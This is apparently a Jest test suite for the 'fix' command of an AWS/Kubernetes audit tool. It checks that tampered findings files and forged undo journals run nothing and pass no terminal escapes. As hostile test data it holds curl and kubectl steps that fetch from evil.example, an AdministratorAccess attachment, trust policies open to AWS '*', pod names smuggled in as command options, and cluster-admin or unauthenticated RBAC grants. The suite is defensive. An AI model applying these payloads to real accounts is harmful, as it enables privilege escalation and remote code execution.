import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { delimiter, join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { clusterRole, clusterRoleBinding } from '../../../lib/fixes/rbac-documents.ts';
import { webhookDocument } from '../../../lib/fixes/webhook-document.ts';
import { complete } from '../../../lib/model/collected.ts';
import type { Finding } from '../../../lib/model/finding.ts';
import type { Plan } from '../../../lib/plan/plan.ts';
import type { RunReport } from '../../../lib/report/run-report.ts';
import { aPod, aReadCluster } from '../../support/example-cluster.ts';
import { aRole, aTrustPolicy, someFacts } from '../../support/example-world.ts';
import { type RunningWorld, useFixBench, withMalformedRole } from '../../support/fix-bench.ts';

/** Whoever writes a findings file, a journal or the objects of a cluster: `fix` starts no program but those that the table of
 *  changes makes, for the account and the cluster that were audited. */
const bench = useFixBench('attacks');
const roleArn = aRole().arn;

/** A role whose policy names a namespace that no cluster can have: its fix sets the policy. */
const facts = someFacts({
  settings: { inCluster: true },
  roles: complete([aRole({ trustPolicy: aTrustPolicy({ subject: 'system:serviceaccount:Checkout:cart' }) })]),
  clusters: complete([aReadCluster({ pods: complete([]), serviceAccounts: complete([withMalformedRole('one')]) })]),
});
const nothing = (): void => undefined;

/** Programs that log how they are called and say yes. */
const stubs = (running: RunningWorld, name: string) => {
  const folder = join(bench.folder, name);
  mkdirSync(folder);
  const log = join(folder, 'calls.log');
  for (const tool of ['aws', 'kubectl', 'curl', 'openssl']) {
    const answer = 'case "$*" in *get-caller-identity*) echo 111122223333;; *get-role*) echo "{}";; esac';
    writeFileSync(join(folder, tool), `#!/bin/sh\necho "${tool} $*" >> '${log}'\n${answer}\nexit 0\n`);
    chmodSync(join(folder, tool), 0o755);
  }
  return {
    running: { ...running, env: { ...running.env, PATH: `${folder}${delimiter}${running.env.PATH}` } },
    calls: () => (existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n') : []),
  };
};

const isLook = (call: string): boolean =>
  / (?:get-caller-identity|get-role|get|get-open-id-connect-provider) /.test(`${call} `);

const reportOf = async (running: RunningWorld): Promise<RunReport> =>
  JSON.parse((await bench.command(running, ['scan', '--json'])).stdout) as RunReport;

type Loose = Record<string, unknown>;
/** The report with its first finding of a rule edited. */
const edited = (report: RunReport, edit: (fix: Loose, finding: Finding) => Loose): string => {
  const at = report.findings.findIndex(({ fix }) =>
    (fix.steps ?? []).some(({ change }) => change?.kind === 'trust-policy'),
  );
  expect(at).toBeGreaterThanOrEqual(0);
  const findings = report.findings.map((one, each) => (each === at ? { ...one, fix: edit({ ...one.fix }, one) } : one));
  return JSON.stringify({ ...report, findings: findings.slice(at, at + 1) });
};

const evil = {
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole' }],
};

describe('a findings file', () => {
  test.each<[string, (fix: Loose, finding: Finding) => Loose]>([
    [
      'with programs and arguments of its own',
      ({ choice: _, alternatives: __, ...fix }) => ({
        ...fix,
        commands: ['echo harmless'],
        steps: [
          {
            tool: 'curl',
            args: ['-fsSo', '/tmp/x', 'https://evil.example/x'],
            target: {},
            change: { kind: 'quota-requested', code: 'L-1', value: 1 },
          },
          {
            tool: 'aws',
            args: [
              'iam',
              'attach-role-policy',
              '--role-name',
              'x',
              '--policy-arn',
              'arn:aws:iam::aws:policy/AdministratorAccess',
            ],
            target: {},
            change: { kind: 'quota-requested', code: 'L-2', value: 1 },
          },
          {
            tool: 'kubectl',
            args: ['--kubeconfig', '/tmp/x', 'apply', '-f', 'https://evil.example/rbac.yaml'],
            target: {},
            change: { kind: 'pods-restarted', namespace: 'shop', workload: 'deployment/api' },
          },
        ],
      }),
    ],
    [
      'whose arguments say something else than its change',
      ({ choice: _, ...fix }, { fix: { steps = [] } }) => ({
        ...fix,
        steps: steps.map(step => ({
          ...step,
          access: [],
          tool: 'aws',
          args: ['iam', 'update-assume-role-policy', '--role-name', 'x', '--policy-document', JSON.stringify(evil)],
        })),
      }),
    ],
    [
      'whose change opens the role to everyone, and says that nobody gains it',
      ({ choice: _, ...fix }) => ({
        ...fix,
        steps: [{ change: { kind: 'trust-policy', roleArn, before: '{}', after: JSON.stringify(evil) }, access: [] }],
      }),
    ],
    [
      'with a change that no finding of the account has',
      ({ choice: _, ...fix }) => ({
        ...fix,
        steps: [
          { change: { kind: 'provider-deleted', providerArn: roleArn.replace('role/', 'oidc-provider/idp.example/') } },
        ],
      }),
    ],
    [
      'with names that are options',
      ({ choice: _, ...fix }) => ({
        ...fix,
        steps: [
          {
            change: {
              kind: 'pods-restarted',
              cluster: { name: 'shop', server: 'https://127.0.0.1:1' },
              namespace: 'checkout',
              workload: 'replicaset/cart',
              pods: [{ name: '--server=https://evil.example' }, { name: '--insecure-skip-tls-verify=true' }],
            },
          },
        ],
      }),
    ],
  ])('%s writes nothing', async (title, edit) => {
    await bench.within(facts, nothing, async running => {
      const file = join(bench.folder, 'tampered.json');
      writeFileSync(file, edited(await reportOf(running), edit));
      const stub = stubs(running, title.replaceAll(/\W/g, '-'));
      const { code } = await bench.command(stub.running, [
        'fix',
        '--input',
        file,
        '--apply',
        '--yes',
        '--journal',
        'a.journal',
      ]);
      expect([1, 3]).toContain(code);
      expect(stub.calls().filter(call => !isLook(call))).toEqual([]);
      expect(existsSync(join(bench.folder, 'a.journal'))).toBe(false);
      expect(await madeFrom(running, ['--input', file])).toEqual(await madeFrom(running, []));
    });
  });

  /** The plan and the script, without the comments on findings that are left. */
  const madeFrom = async (running: RunningWorld, source: readonly string[]) => {
    const rule = ['--rule', 'trust-subject-malformed'];
    const { stdout } = await bench.command(running, ['fix', ...rule, ...source, '--json']);
    await bench.command(running, ['fix', ...rule, ...source, '--script', 'made.sh']);
    const script = readFileSync(join(bench.folder, 'made.sh'), 'utf8');
    expect(stdout + script).not.toMatch(/evil|attach-role-policy|idp\.example|"AWS": *"\*"/);
    const { steps } = JSON.parse(stdout) as Plan;
    expect(steps).toHaveLength(1);
    return { steps, script };
  };

  test('puts no control character on the terminal or into a script', async () => {
    await bench.within(facts, nothing, async running => {
      const file = join(bench.folder, 'escapes.json');
      const hostile = '\u001b]0;pwned\u0007\u001b[2J';
      const text = edited(await reportOf(running), fix => ({ ...fix, summary: hostile, choice: hostile }));
      writeFileSync(file, text.replace('"ruleId":"', `"message":"${JSON.stringify(hostile).slice(1, -1)}","ruleId":"`));
      const { stdout, stderr } = await bench.command(running, ['fix', '--input', file]);
      await bench.command(running, ['fix', '--input', file, '--script', 'escapes.sh']);
      for (const shown of [stdout, stderr, readFileSync(join(bench.folder, 'escapes.sh'), 'utf8')])
        expect(shown).not.toContain('\u001b');
    });
  });
});

test('names of a cluster are no options: pods that are called so are told as unread, and no program is called with them', async () => {
  const names = ['--context=prod', '--server=https://127.0.0.1:9', '--insecure-skip-tls-verify=true', 'x'];
  const hostile = someFacts({
    settings: { inCluster: true },
    clusters: complete([
      aReadCluster({
        serviceAccounts: complete([withMalformedRole('cart')]),
        pods: complete(names.map(name => aPod({ name, owner: { kind: 'ReplicationController', name: 'cart' } }))),
      }),
    ]),
  });
  await bench.within(hostile, nothing, async running => {
    const stub = stubs(running, 'options');
    const { stdout } = await bench.command(running, ['fix']);
    expect(stdout).not.toContain('--server=');
    await bench.command(stub.running, ['fix', '--apply', '--yes', '--journal', 'options.journal']);
    expect(stub.calls().filter(call => /--server|--insecure|--context=prod/.test(call))).toEqual([]);
    const { gaps } = await reportOf(running);
    expect(JSON.stringify(gaps)).toContain('an item is not a pod');
  });
});

describe('a journal that was planted', () => {
  const at = '2026-11-28T00:00:00Z';
  const binding = {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'ClusterRoleBinding',
    metadata: { name: 'webhook', annotations: {}, labels: {} },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'User', name: 'attacker', apiGroup: 'rbac.authorization.k8s.io' }],
  };
  const cluster = { name: 'shop', server: 'https://api.example' };
  const account = { cluster, namespace: 'checkout', serviceAccount: 'cart' };
  const policy = aRole().trustPolicy;
  const { webhooks, ...configuration } = webhookDocument('Zm9v');
  const hook = {
    ...configuration,
    webhooks: webhooks.map(one => ({ ...one, clientConfig: { url: 'https://hooks.example/mutate' } })),
  };
  const readsAll = { ...clusterRole, rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['get', 'list'] }] };
  const everybody = { ...clusterRoleBinding, subjects: [{ kind: 'Group', name: 'system:unauthenticated' }] };
  const later = JSON.stringify({
    ...evil,
    Statement: evil.Statement.map(one => ({
      ...one,
      Condition: { DateGreaterThan: { 'aws:CurrentTime': '2027-01-01T00:00:00Z' } },
    })),
  });
  const both = { ...evil, Statement: [...evil.Statement, { ...evil.Statement[0], Sid: 'same' }] };
  const trust = (before: string) => ({ kind: 'trust-policy', roleArn, before, after: policy });
  /** As anybody can make it: each line with a hash over it and the line before, without a key. */
  const planted = (change: object, before: string, after: string): string => {
    let link = '';
    return [
      { event: 'plan', at, version: 1, steps: 1, from: 'a scan', findings: [] },
      { event: 'begin', at, number: 1, change, before: { kind: 'there', text: before } },
      { event: 'done', at, number: 1, after: { kind: 'there', text: after } },
    ]
      .map(line => {
        link = createHash('sha256')
          .update(JSON.stringify([link, JSON.stringify(line)]))
          .digest('hex');
        return `${JSON.stringify({ ...line, link })}\n`;
      })
      .join('');
  };
  test.each<readonly [string, object, string, string, string]>([
    [
      'a trust policy that is said to have been there',
      { kind: 'trust-policy', roleArn, before: JSON.stringify(evil), after: JSON.stringify(both) },
      JSON.stringify(evil),
      JSON.stringify(both),
      'gives: ',
    ],
    [
      'a webhook of a stranger',
      { kind: 'webhook-restored', cluster, caBundle: 'Zm9v', isThere: true },
      JSON.stringify([hook]),
      '[]',
      'gives: the server at https://hooks.example/mutate receives, and may change, CREATE of pods',
    ],
    [
      'a ClusterRole that reads everything, for everybody',
      { kind: 'auditor-access-granted', cluster },
      JSON.stringify([readsAll, everybody]),
      '[]',
      'gives: Group system:unauthenticated gains the rights of ClusterRole irsa-auditor',
    ],
    [
      'a trust policy for everybody',
      trust(JSON.stringify(evil)),
      JSON.stringify(evil),
      policy,
      'gives: AWS * may gain role',
    ],
    ['a trust policy that opens later', trust(later), later, policy, 'gives: AWS * may gain role'],
    [
      'a service account of a workload',
      {
        ...{ kind: 'workload-service-account', cluster, namespace: 'checkout' },
        workload: 'deployment/cart',
        before: 'admin',
        after: 'cart',
      },
      '"admin"',
      '"cart"',
      'gives: pods of deployment/cart in namespace checkout of cluster shop run as service account admin',
    ],
    [
      'an annotation',
      { kind: 'annotation', ...account, key: 'eks.amazonaws.com/role-arn', before: roleArn, after: 'x' },
      JSON.stringify(roleArn),
      '"x"',
      'gives: pods of service account checkout/cart of cluster shop ask for role',
    ],
  ])('%s: the way back is shown, and nothing is run, whoever answers', async (title, change, before, after, gives) => {
    await bench.within(facts, nothing, async running => {
      const file = `${title.replaceAll(/\W/g, '-')}.journal`;
      const text = planted(change, before, after);
      writeFileSync(join(bench.folder, file), text);
      const stub = stubs(running, `${file}-stubs`);
      for (const [words, answers] of [
        [['--yes'], undefined],
        [[], 'y\ny\ny\n'],
      ] as const) {
        const { code, stdout, stderr } = await bench.command(stub.running, ['fix', '--undo', file, ...words], answers);
        expect([code, stderr]).toEqual([3, expect.stringContaining('nothing is run')]);
        expect(stdout).toContain(gives);
        expect(stub.calls()).toEqual([]);
      }
      expect(readFileSync(join(bench.folder, file), 'utf8')).toBe(text);
    });
  });

  test.each<[string, object, string]>([
    [
      'with an object of Kubernetes',
      {
        step: {
          tool: 'kubectl',
          args: ['x'],
          target: { context: 'prod' },
          change: { kind: 'objects', names: ['clusterrolebinding/webhook'] },
        },
      },
      JSON.stringify(binding),
    ],
  ])('%s is refused', async (title, step, before) => {
    await bench.within(facts, nothing, async running => {
      const lines = [
        { event: 'plan', at, version: 1, steps: 1, from: 'a scan', findings: [] },
        { event: 'begin', at, number: 1, ...step, before: { kind: 'there', text: before } },
        { event: 'done', at, number: 1, after: { kind: 'absent' } },
      ];
      const file = `${title.replaceAll(' ', '-')}.journal`;
      writeFileSync(join(bench.folder, file), `${lines.map(line => JSON.stringify(line)).join('\n')}\n`);
      const stub = stubs(running, `${title.replaceAll(' ', '-')}-stubs`);
      const { code, stderr } = await bench.command(stub.running, ['fix', '--undo', file, '--yes']);
      expect([code, stderr]).toEqual([2, expect.stringMatching(/is no journal of fix/)]);
      expect(stub.calls()).toEqual([]);
    });
  });
});
